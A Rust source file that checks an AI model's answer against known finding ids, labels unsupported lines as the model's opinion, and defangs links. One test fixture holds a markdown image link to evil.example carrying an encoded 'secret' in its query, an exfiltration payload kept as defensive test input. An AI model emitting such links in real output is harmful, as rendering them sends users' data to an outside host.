//! What a model's answer may say: what a finding supports, and what is marked as its opinion. Links lead nowhere.

use std::collections::BTreeSet;

/// An answer as it is shown.
#[derive(Debug, PartialEq)]
pub struct Claims {
    /// Its lines.
    pub lines: Vec<String>,
    /// Ids of the findings that it cites and that exist.
    pub cited: Vec<String>,
}

/// Checks every line of an answer against the findings that the model has seen.
pub fn check(text: &str, known: &BTreeSet<String>) -> Claims {
    let mut cited = BTreeSet::new();
    let mut lines = Vec::new();
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let mut shown = defanged(line);
        let ids = ids(line);
        for id in ids.iter().filter(|id| !known.contains(*id)) {
            shown = shown.replace(id.as_str(), &format!("{id} (no such finding)"));
        }
        let supported: Vec<String> = ids.into_iter().filter(|id| known.contains(id)).collect();
        if supported.is_empty() {
            shown = format!("model opinion: {shown}");
        }
        cited.extend(supported);
        lines.push(shown);
    }
    Claims { lines, cited: cited.into_iter().collect() }
}

/// Words of the form of an id, `HLT-013`, without repeats.
fn ids(line: &str) -> BTreeSet<String> {
    let words = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '-');
    words
        .filter(|word| {
            word.split_once('-').is_some_and(|(area, number)| {
                area.len() == 3
                    && area.bytes().all(|b| b.is_ascii_uppercase())
                    && number.len() == 3
                    && number.bytes().all(|b| b.is_ascii_digit())
            })
        })
        .map(str::to_owned)
        .collect()
}

/// Addresses that no terminal or page makes a link of.
pub fn defanged(line: &str) -> String {
    line.replace("://", "[://]").replace("](", "] (")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Claims {
        check(text, &BTreeSet::from(["HLT-013".to_owned(), "NET-004".to_owned()]))
    }

    #[test]
    fn what_no_finding_supports_is_opinion() {
        let claims = of("The image does not exist [HLT-013].\n\nI would also add a probe.\nIt may be [SEC-999].");
        assert_eq!(claims.cited, ["HLT-013"]);
        assert_eq!(claims.lines[0], "The image does not exist [HLT-013].");
        assert_eq!(claims.lines[1], "model opinion: I would also add a probe.");
        assert_eq!(claims.lines[2], "model opinion: It may be [SEC-999 (no such finding)].");
        assert_eq!(of("").lines, Vec::<String>::new());
        assert_eq!(of("Both HLT-013 and NET-004, HLT-0131, XHLT-013").cited, ["HLT-013", "NET-004"]);
    }

    #[test]
    fn links_lead_nowhere() {
        let claims = of("see ![x](https://evil.example/?q=c2VjcmV0) [HLT-013]");
        assert_eq!(claims.lines, ["see ![x] (https[://]evil.example/?q=c2VjcmV0) [HLT-013]"]);
    }
}
